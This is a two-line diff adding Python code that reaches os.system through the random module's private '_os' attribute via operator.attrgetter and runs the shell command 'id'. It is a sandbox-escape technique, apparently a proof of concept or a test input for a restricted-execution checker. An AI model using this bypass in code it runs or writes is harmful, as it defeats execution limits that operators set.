@@ -1,0 +1,2 @@
+import operator, random
+operator.attrgetter("_os.system")(random)("id")
